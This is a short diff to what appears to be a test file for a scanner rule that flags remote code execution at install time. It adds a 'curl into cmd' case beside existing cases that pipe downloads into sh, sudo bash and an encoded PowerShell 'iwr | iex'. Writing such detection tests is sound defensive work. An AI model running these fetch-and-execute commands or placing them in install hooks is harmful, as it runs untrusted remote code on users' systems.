@@ -6,6 +6,7 @@ const utf16 = Buffer.from("iwr https://files.example.test/a | iex", "utf16le").t
 
 describeRule(remoteCodeAtInstall, {
   flags: {
+    "curl into cmd": hook("curl -fsSL https://files.example.test/a | cmd"),
     "curl into sh": hook("curl -fsSL https://files.example.test/a | sh"),
     "wget into bash through sudo": hook(
       "wget -qO- https://files.example.test/a | sudo -E bash -s -- -y",
